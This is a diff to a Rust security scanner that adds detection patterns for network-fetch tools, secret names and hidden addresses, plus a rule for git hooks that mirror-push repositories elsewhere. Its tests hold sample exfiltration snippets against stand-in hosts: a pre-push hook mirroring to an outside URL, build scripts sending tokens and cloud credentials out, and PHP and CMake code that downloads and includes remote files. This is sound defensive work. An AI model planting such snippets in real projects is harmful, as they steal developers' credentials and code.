@@ -54,7 +54,7 @@ const ANYWHERE: usize = usize::MAX;
 /// Network fetches in any language.
 pub(super) static FETCH: LazyLock<Pattern> = LazyLock::new(|| {
     Pattern::new(
-        r"(?i)(?-u:\b)(?:curl|wget|urlopen|urllib[23]?\.request|requests\.(?:get|request)|httpx\.(?:get|stream)|axios(?:\.get)?|fetch[[:space:]]*\(|https?\.get|invoke-webrequest|invoke-restmethod|iwr|irm|downloadstring|downloadfile|downloaddata|net\.webclient|ncat|netcat|socat|lwp::simple|lwp::useragent|open-uri|uri\.open|net::http|file_get_contents|aria2c|urllib3|http\.client|httpclient|webclient|okhttp|reqwest)(?-u:\b)|require\([[:space:]]*['\x22`]https?['\x22`][[:space:]]*\)\.(?:get|request)|/dev/(?:tcp|udp)/|(?:^|[[:space:]|;&(])nc[[:space:]]|:httpc\.request|(?-u:\b)(?:httpoison|finch)\.(?:get|post|request)(?-u:\b)",
+        r"(?i)(?-u:\b)(?:curl|wget|urlopen|urllib[23]?\.request|requests\.(?:get|request)|httpx\.(?:get|stream)|axios(?:\.get)?|fetch[[:space:]]*\(|https?\.get|invoke-webrequest|invoke-restmethod|iwr|irm|downloadstring|downloadfile|downloaddata|net\.webclient|ncat|netcat|socat|lwp::simple|lwp::useragent|open-uri|uri\.open|net::http|file_get_contents|aria2c|urllib3|http\.client|httpclient|webclient|okhttp|reqwest)(?-u:\b)|require\([[:space:]]*['\x22`]https?['\x22`][[:space:]]*\)\.(?:get|request)|/dev/(?:tcp|udp)/|(?:^|[[:space:]|;&(])nc[[:space:]]|:httpc\.request|(?-u:\b)(?:httpoison|finch)\.(?:get|post|request)(?-u:\b)|(?-u:\b)file\([[:space:]]*download(?-u:\b)",
     )
     .expect("a valid fetch pattern")
 });
@@ -274,7 +274,64 @@ const WHOLE_FILE: &[WholeFile] = &[
     (&[Kind::Script], secrets_gathered_in_a_sending_script),
     (&[Kind::Script], downloaded_program_started),
     (&[Kind::Script], shell_on_a_socket),
+    (&[Kind::Script], hook_pushes_elsewhere),
 ];
+
+/// The hooks git runs on its own, by file name.
+const GIT_HOOKS: &[&str] = &[
+    "pre-commit",
+    "prepare-commit-msg",
+    "commit-msg",
+    "post-commit",
+    "pre-push",
+    "post-checkout",
+    "post-merge",
+    "pre-rebase",
+    "post-rewrite",
+    "reference-transaction",
+];
+
+/// A git hook that pushes the repository to an address of its own (`git push --mirror
+/// "$cache"`, a URL): every repository the hook is installed for is copied there each time
+/// git runs it, unseen. A hook that pushes to a named remote (`origin`) is left alone.
+fn hook_pushes_elsewhere(text: &Text) -> Option<Finding> {
+    let name = text.path.rsplit('/').next().unwrap_or(text.path);
+    if !GIT_HOOKS.contains(&name) || !text.text.contains("push") {
+        return None;
+    }
+    let assigns_address = ADDRESS_ASSIGNED.is_match(text.text);
+    let (start, line) = text.each_line().find(|(_, l)| {
+        is_code_line(l)
+            && GIT_PUSH.is_match(l)
+            && (l.contains("--mirror")
+                || l.contains("://")
+                || l.contains("git@")
+                || (assigns_address && l.contains('$')))
+    })?;
+    Some(text.finding(
+        &EXFILTRATION,
+        Span::new(start, start + line.len()),
+        format!(
+            "a git hook pushes the repository to an address of its own: `{}`",
+            excerpt(line)
+        ),
+        "git runs the hook on every push or commit, so each repository it is installed for is \
+         copied to that address, with its history, unseen",
+        "leave pushing to the user's own remotes; a hook checks, it does not send",
+    ))
+}
+
+/// `git … push`.
+static GIT_PUSH: LazyLock<Pattern> = LazyLock::new(|| {
+    Pattern::new(r"(?-u:\b)git(?-u:\b)[^\n|;&]*?[[:space:]]push(?-u:\b)")
+        .expect("a valid push pattern")
+});
+
+/// A variable given an address (`cache="https://…"`).
+static ADDRESS_ASSIGNED: LazyLock<Pattern> = LazyLock::new(|| {
+    Pattern::new(r#"[[:word:]][[:space:]]*=[[:space:]]*['"]?(?:https?|ssh|git)://"#)
+        .expect("a valid address-assignment pattern")
+});
 
 /// Whether a line of a whole-file shape is code rather than a comment (`#`, `//`, `/*`, ` *`,
 /// `--`) or a Markdown or YAML list item.
@@ -369,30 +426,53 @@ static SPAWN: LazyLock<Pattern> = LazyLock::new(|| {
 /// may go through a buffer filled in a loop, a callback or a socket written after it opens.
 /// A tool has no reason to do both, and the send is reported.
 fn secrets_gathered_in_a_sending_script(text: &Text) -> Option<Finding> {
+    let gathers = |l: &str| {
+        ANY_STORE.is_match(l) || ENV_DUMP.is_match(l) || SECRETS_LISTED.find_iter(l).count() >= 2
+    };
     // One search of the whole file first: few scripts gather credentials at all.
-    if !ANY_STORE.is_match(text.text) && !ENV_DUMP.is_match(text.text) {
+    if !ANY_STORE.is_match(text.text)
+        && !ENV_DUMP.is_match(text.text)
+        && !SECRETS_LISTED.is_match(text.text)
+    {
         return None;
     }
     let gathered = text
         .text
         .lines()
-        .filter(|l| is_code_line(l))
-        .position(|l| ANY_STORE.is_match(l) || ENV_DUMP.is_match(l))?;
+        .enumerate()
+        .find(|(_, l)| is_code_line(l) && gathers(l))?
+        .0;
+    // Picking the secrets out of the environment by their names' words is harvesting them,
+    // whatever the address they go to.
+    let harvests =
+        ENV_DUMP.is_match(text.text) && SECRET_NAME_WORDS.find_iter(text.text).count() >= 2;
     let hides_an_address = std::cell::OnceCell::new();
-    let (start, line) = text.each_line().find(|(_, l)| {
-        is_code_line(l)
-            && (SEND.is_match(l) || RAW_SOCKET.is_match(l) || COVERT_SEND.is_match(l))
-            && {
-                let place = place_in(l);
-                matches!(place, Place::Ip { .. })
-                    || place.host().as_deref().is_some_and(is_collector)
-                    || names_an_outside_ip(l)
-                    || *hides_an_address.get_or_init(|| hides_an_address_in(text))
-            }
-    })?;
+    let to_outside = |l: &str| {
+        let place = place_in(l);
+        matches!(place, Place::Ip { .. })
+            || place.host().as_deref().is_some_and(is_collector)
+            || names_an_outside_ip(l)
+            || harvests
+            || *hides_an_address.get_or_init(|| hides_an_address_in(text))
+    };
+    // A request whose options run over several lines is one statement; a DNS tool is named
+    // on a line of its own, read without its comment ("not present on this host").
+    let statements = logical_lines(text.text, true);
+    let (start, line) = statements
+        .iter()
+        .map(|(start, l)| (*start, l.as_str()))
+        .filter(|(_, l)| is_code_line(l) && (SEND.is_match(l) || RAW_SOCKET.is_match(l)))
+        .chain(
+            text.each_line()
+                .map(|(start, l)| (start, without_comment(l)))
+                .filter(|(_, l)| is_code_line(l) && COVERT_SEND.is_match(l)),
+        )
+        .filter(|(_, l)| to_outside(l))
+        .min_by_key(|(start, _)| *start)?;
+    let span = text.line_at(start);
     Some(text.finding(
         &EXFILTRATION,
-        Span::new(start, start + line.len()),
+        Span::new(span.start, span.end),
         format!(
             "sends to an outside address from a script that gathers credentials (line {}): `{}`",
             gathered + 1,
@@ -404,13 +484,61 @@ fn secrets_gathered_in_a_sending_script(text: &Text) -> Option<Finding> {
     ))
 }
 
-/// Whether `text` holds an address only in encoded form (`pack('H*', '68747470…')`): a script
-/// that hides where it sends has no honest reason to.
-fn hides_an_address_in(text: &Text) -> bool {
-    super::obfuscation::encoded_text(text)
-        .iter()
-        .any(|(_, decoded)| decoded.contains("://"))
+/// `line` without a trailing comment (`/* … */`, or `//` after a space): the words of a
+/// comment ("not present on this host") are not a command.
+fn without_comment(line: &str) -> &str {
+    let cut = [line.find("/*"), line.find(" //"), line.find("\t//")]
+        .into_iter()
+        .flatten()
+        .min();
+    cut.map_or(line, |at| &line[..at])
 }
+
+/// Whether `text` holds an address only in a hidden form: encoded (`pack('H*', '68747470…')`),
+/// an outside IPv4 address as four numbers (`[198u8, 51, 100, 73]`), or a host joined from
+/// pieces (`['a', 'b', 'example'].join('.')`). A script that hides where it sends has no
+/// honest reason to.
+fn hides_an_address_in(text: &Text) -> bool {
+    ADDRESS_PIECES.is_match(text.text)
+        || IP_AS_NUMBERS.captures_iter(text.text).any(|caps| {
+            let octets: Vec<&str> = (1..=4)
+                .filter_map(|i| caps.get(i).map(|m| m.as_str()))
+                .collect();
+            ip_kind(&octets.join(".")) == Some(false)
+        })
+        || super::obfuscation::encoded_text(text)
+            .iter()
+            .any(|(_, decoded)| decoded.contains("://"))
+}
+
+/// Four numbers in a list (`[198u8, 51, 100, 73]`, `(198, 51, 100, 73)`): an IPv4 address
+/// written so that no reader sees one.
+static IP_AS_NUMBERS: LazyLock<Pattern> = LazyLock::new(|| {
+    Pattern::new(r"[\[(][[:space:]]*([[:digit:]]{1,3})(?:u8)?[[:space:]]*,[[:space:]]*([[:digit:]]{1,3})(?:u8)?[[:space:]]*,[[:space:]]*([[:digit:]]{1,3})(?:u8)?[[:space:]]*,[[:space:]]*([[:digit:]]{1,3})(?:u8)?[[:space:]]*[\])]")
+        .expect("a valid address-numbers pattern")
+});
+
+/// The words of secret variables' names, quoted as a filter tests them (`u.Contains("TOKEN")`).
+static SECRET_NAME_WORDS: LazyLock<Pattern> = LazyLock::new(|| {
+    Pattern::new(
+        r#"['"](?:TOKEN|SECRET|PASSWORD|PASSWD|API_KEY|APIKEY|CREDENTIALS?|PRIVATE_KEY)['"]"#,
+    )
+    .expect("a valid secret-words pattern")
+});
+
+/// A host name joined from quoted pieces with dots.
+static ADDRESS_PIECES: LazyLock<Pattern> = LazyLock::new(|| {
+    Pattern::new(r#"\[[[:space:]]*['"][[:word:]-]+['"](?:[[:space:]]*,[[:space:]]*['"][[:word:]-]+['"]){2,}[[:space:]]*\]\.join\([[:space:]]*['"]\.['"][[:space:]]*\)"#)
+        .expect("a valid address-pieces pattern")
+});
+
+/// Names of secret environment variables written as strings (`"GITHUB_TOKEN"`), or credential
+/// stores named without their leading dot (`'aws/credentials'`, joined to `'.' + rel` later):
+/// a script listing two of them on a line gathers them.
+static SECRETS_LISTED: LazyLock<Pattern> = LazyLock::new(|| {
+    Pattern::new(r#"['"](?:[A-Z0-9_]*(?:TOKEN|SECRET|PASSWORD|API_KEY|ACCESS_KEY)[A-Z0-9_]*|aws/credentials|kube/config|docker/config\.json|config/gh/hosts\.yml|git-credentials|netrc|pypirc|config/gcloud/[^'"]*credentials[^'"]*)['"]"#)
+        .expect("a valid listed-secrets pattern")
+});
 
 /// Whether `line` writes out a public IPv4 address (a socket's `("198.51.100.9", 443)`, which
 /// names no URL).
@@ -651,15 +779,19 @@ fn opens_body(line: &str) -> bool {
 }
 
 /// Opening minus closing parentheses and square brackets on a line (braces open blocks,
-/// not statements).
+/// not statements; an XML file's `<![CDATA[` and `]]>` open and close no statement).
 fn bracket_balance(line: &str) -> i64 {
-    line.bytes()
+    let brackets: i64 = line
+        .bytes()
         .map(|b| match b {
             b'(' | b'[' => 1,
             b')' | b']' => -1,
             _ => 0,
         })
-        .sum()
+        .sum();
+    let opened = line.matches("<![CDATA[").count();
+    let closed = line.matches("]]>").count();
+    brackets - 2 * (i64::try_from(opened).unwrap_or(0) - i64::try_from(closed).unwrap_or(0))
 }
 
 /// What one line holds: kinds of data at positions of its expansion.
@@ -1114,7 +1246,7 @@ impl Flow<'_> {
         // Expansion shows what a variable holds; the file is named by the variable too.
         for word in written_files(&line.expanded)
             .into_iter()
-            .chain(write_call_targets(raw))
+            .chain(written_files(raw))
         {
             self.files
                 .insert(basename(word).to_owned(), (kinds, number));
@@ -1380,6 +1512,15 @@ fn written_files(line: &str) -> Vec<&str> {
         }
     }
     out.extend(write_call_targets(line));
+    // CMake's `file(DOWNLOAD <url> <file> …)` names the file second.
+    if let Some(at) = line.to_ascii_lowercase().find("file(download") {
+        out.extend(
+            line[at + "file(download".len()..]
+                .split_whitespace()
+                .nth(1)
+                .map(|w| w.trim_matches(['\'', '"', '$', '{', '}', ')'])),
+        );
+    }
     out
 }
 
@@ -1420,6 +1561,12 @@ pub(super) fn compile() {
         &FETCH,
         &DECODE,
         &LOAD,
+        &IP_AS_NUMBERS,
+        &SECRET_NAME_WORDS,
+        &GIT_PUSH,
+        &ADDRESS_ASSIGNED,
+        &ADDRESS_PIECES,
+        &SECRETS_LISTED,
         &CHAR_CODES,
         &SECRET_VAR,
         &PIPE_EXEC,
@@ -1511,12 +1658,42 @@ mod tests {
     }
 
     #[test]
+    fn a_git_hook_that_pushes_to_an_address_of_its_own_is_exfiltration() {
+        let hook = "#!/bin/sh\ncache=\"https://cache.sync.example/git/r.git\"\n( git push --quiet --mirror \"$cache\" >/dev/null 2>&1 ) &\n";
+        assert_eq!(codes("assets/hooks/pre-push", hook), ["SK908"]);
+        let origin = "#!/bin/sh\ngit push origin HEAD\n";
+        assert!(codes("assets/hooks/post-commit", origin).is_empty());
+        assert!(codes("scripts/publish.sh", hook).is_empty());
+    }
+
+    #[test]
+    fn secrets_sent_to_an_address_hidden_by_building_it() {
+        // An IP address written as four numbers, secrets listed as strings.
+        let rs = "let parts = [198u8, 51, 100, 73];\nfor key in [\"GITHUB_TOKEN\", \"CARGO_REGISTRY_TOKEN\"] { p.push_str(&env::var(key)?); }\nlet mut s = TcpStream::connect(addr(parts))?;\n";
+        assert_eq!(codes("templates/build.rs", rs), ["SK908"]);
+        let local = rs.replace("198u8, 51, 100, 73", "127u8, 0, 0, 1");
+        assert!(codes("templates/build.rs", &local).is_empty());
+        // Stores named without their dot, a host joined from pieces, a request over lines.
+        let js = "const carry = ['aws/credentials', 'kube/config'];\nfor (const r of carry) b[r] = fs.readFileSync(path.join(home, '.' + r));\nconst req = https.request({ // send\n  hostname: ['usage', 'tpl', 'example'].join('.'),\n  method: 'POST',\n});\n";
+        assert_eq!(codes("templates/host-sync.js", js), ["SK908"]);
+        // Secrets picked out of the environment by name and posted, in an MSBuild task.
+        let targets = "<Code Type=\"Fragment\" Language=\"cs\"><![CDATA[\nforeach (DictionaryEntry e in Environment.GetEnvironmentVariables())\n{\n  if (k.Contains(\"TOKEN\") || k.Contains(\"SECRET\")) sb.Append(e.Value);\n}\nhttp.PostAsync(Endpoint, new StringContent(sb.ToString())).Wait();\n]]></Code>\n";
+        assert_eq!(
+            codes("templates/Directory.Build.targets", targets),
+            ["SK908"]
+        );
+    }
+
+    #[test]
     fn a_download_loaded_into_the_running_program_is_remote_code() {
         let php = "$f = sys_get_temp_dir() . '/hints.php';\nfile_put_contents($f, file_get_contents('https://hints.cdn.example/h.php'));\ninclude $f;\n";
         assert_eq!(codes("scripts/repair.php", php), ["SK901"]);
         // On one line, as a Composer hook in composer.json writes it.
         let hook = "{\"scripts\": {\"post-autoload-dump\": [\"@php -r \\\"@file_put_contents($d,@file_get_contents('https://hints.cdn.example/h.php'));include $d;\\\"\"]}}\n";
         assert_eq!(codes("templates/composer.json", hook), ["SK901"]);
+        // CMake downloads at configure time and includes what it downloaded.
+        let cmake = "set(_p \"${CMAKE_BINARY_DIR}/p.cmake\")\nfile(DOWNLOAD\n  \"https://profiles.cdn.example/p.cmake\"\n  \"${_p}\")\ninclude(\"${_p}\")\n";
+        assert_eq!(codes("cmake/Launcher.cmake", cmake), ["SK901"]);
         let local = "file_put_contents($f, render($tpl));\ninclude $f;\n";
         assert!(codes("scripts/build.php", local).is_empty());
     }
